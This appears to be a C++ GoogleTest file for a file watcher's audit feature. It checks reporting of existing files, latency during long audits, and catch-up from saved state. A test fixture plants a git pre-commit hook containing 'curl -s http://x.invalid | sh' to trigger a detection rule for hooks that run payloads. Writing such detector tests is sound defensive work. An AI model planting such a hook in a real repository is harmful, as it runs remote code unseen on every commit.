// What is already there when a root is added (`existing`), and what changed while no watcher ran
// (`rescanned`, from the state remembered per root).

#include "WatcherHarness.h"

#include <gtest/gtest.h>
#include <iostream>

namespace tw::test {
namespace {

using namespace std::chrono_literals;
namespace fs = std::filesystem;

constexpr const char* hookRule = "git_hook_runs_payload";

fs::path plantHook(const fs::path& repo)
{
    const fs::path hook = repo / ".git/hooks/pre-commit";
    fs::create_directories(hook.parent_path());
    writeFile(hook, "#!/bin/sh\ncurl -s http://x.invalid | sh\n");
    fs::permissions(hook, fs::perms(0755));
    return hook;
}

bool waitForWord(const Watcher& watcher, const fs::path& path, std::string_view word,
                 const std::string& rule = matchEverything)
{
    return watcher.waitForLine([&](const WatchLine& line) {
        return line.path == path.string() && line.rule == rule && line.hasType(word);
    });
}

TEST(TwwatchAudit, ExistingHookIsReportedWhenItsRootIsAdded)
{
    for (const bool inALaterMessage : {false, true}) {
        SCOPED_TRACE(inALaterMessage ? "added later" : "in the first message");
        TempDir anchor, repo;
        const fs::path hook = plantHook(repo.path());
        Watcher watcher;
        if (inALaterMessage) {
            watcher.send({anchor.path()});
            ASSERT_TRUE(watcher.sync(anchor.path())) << watcher.log();
        }
        watcher.send({anchor.path(), repo.path()});
        ASSERT_TRUE(waitForWord(watcher, hook, "existing", hookRule)) << watcher.log();
        // A root that stays in the next message is not audited again.
        ASSERT_TRUE(waitForWord(watcher, hook, "existing")) << watcher.log();
        watcher.send({anchor.path(), repo.path()});
        ASSERT_TRUE(watcher.sync(anchor.path())) << watcher.log();
        EXPECT_EQ(watcher.linesFor(hook.string()).size(), 1u) << watcher.log();
    }
}

TEST(TwwatchAudit, LiveChangeDuringALongAuditIsNotHeldUp)
{
    constexpr int files = 5000;
    TempDir root;
    fs::create_directories(root / "bulk");
    makeFiles(root / "bulk", files);
    Watcher watcher;
    watcher.send({root.path()});
    ASSERT_TRUE(watcher.waitForLine([](const WatchLine& line) { return line.hasType("existing"); }))
        << watcher.log();

    const fs::path live = root / "live.txt";
    const auto start = std::chrono::steady_clock::now();
    writeFile(live, "x");
    // The quiet period is 100 ms; a generous bound still far below the audit's length.
    ASSERT_TRUE(watcher.waitForLine([&](const WatchLine& line) { return line.path == live.string(); }, 2s))
        << watcher.log();
    const auto latency = std::chrono::steady_clock::now() - start;
    size_t audited = 0;
    for (const auto& line : watcher.lines())
        audited += line.hasType("existing");
    EXPECT_LT(audited, size_t(files)) << "the audit ended before the live change: nothing was measured";
    std::cout << "live change reported after "
              << std::chrono::duration_cast<std::chrono::milliseconds>(latency).count() << " ms, with "
              << audited << " of " << files << " files audited\n";
    // Every existing file is still reported.
    std::set<std::string> all;
    for (int i = 0; i < files; ++i)
        all.insert((root / "bulk" / ("f" + std::to_string(i))).string());
    EXPECT_TRUE(watcher.waitForPaths(all, 120s)) << watcher.log();
}

TEST(TwwatchCatchUp, WhatChangedWhileNoWatcherRanIsReported)
{
    struct Case
    {
        const char* name;
        std::string stateText; // what the state file holds at the second start; empty: as left
        bool removeState;
        const char* word; // how the planted hook is reported
        const char* note; // expected on standard error; empty: no note
    };
    const Case cases[] = {
        {"state as left", "", false, "rescanned", ""},
        {"damaged state", "twwatch-state 1\nsoon\n", false, "existing", "is damaged"},
        {"state from another program", "{}", false, "existing", "is damaged"},
        {"no state: a root never watched", "", true, "existing", ""},
    };
    // Without the margin, a file left alone since before the first run is past the recorded moment.
    ::setenv("TWWATCH_STATE_MARGIN_MS", "0", 1);
    for (const Case& c : cases) {
        SCOPED_TRACE(c.name);
        TempDir stateHome, repo;
        const fs::path old = repo / "old.txt";
        writeFile(old, "x");
        {
            Watcher first(WatcherSetup{.stateHome = stateHome.path()});
            first.send({repo.path()});
            ASSERT_TRUE(waitForWord(first, old, "existing")) << first.log();
            first.closeInput();
            ASSERT_EQ(first.waitExit(20s), 0) << first.log();
        }
        const fs::path stateDir = stateHome / "tarnwick";
        ASSERT_TRUE(fs::exists(stateDir) && !fs::is_empty(stateDir));
        for (const auto& entry : fs::directory_iterator(stateDir)) {
            if (c.removeState)
                fs::remove(entry.path());
            else if (!c.stateText.empty())
                writeFile(entry.path(), c.stateText);
        }

        const fs::path hook = plantHook(repo.path());
        Watcher second(WatcherSetup{.stateHome = stateHome.path()});
        second.send({repo.path()});
        ASSERT_TRUE(waitForWord(second, hook, c.word, hookRule)) << second.log();
        // The audit lists a folder before the folders in it and evaluates in that order: by now, the
        // file at the top has been evaluated if it was going to be.
        EXPECT_EQ(second.linesFor(old.string()).empty(), std::string_view(c.word) == "rescanned")
            << second.log();
        const std::string log = second.log();
        if (*c.note)
            EXPECT_NE(log.find(c.note), std::string::npos) << log;
        else
            EXPECT_EQ(log.find("auditing every file"), std::string::npos) << log;
    }
    ::unsetenv("TWWATCH_STATE_MARGIN_MS");
}

} // namespace
} // namespace tw::test
